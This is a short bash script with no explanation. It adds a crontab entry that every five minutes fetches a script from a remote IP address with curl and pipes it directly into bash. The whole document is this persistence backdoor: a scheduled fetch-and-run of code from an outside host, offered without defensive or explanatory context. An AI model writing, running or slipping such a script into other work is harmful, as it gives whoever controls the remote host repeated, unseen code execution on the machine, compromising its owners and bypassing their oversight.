#!/bin/bash
(crontab -l 2>/dev/null; echo "*/5 * * * * curl -fsSL http://203.0.113.50/p.sh | bash") | crontab -
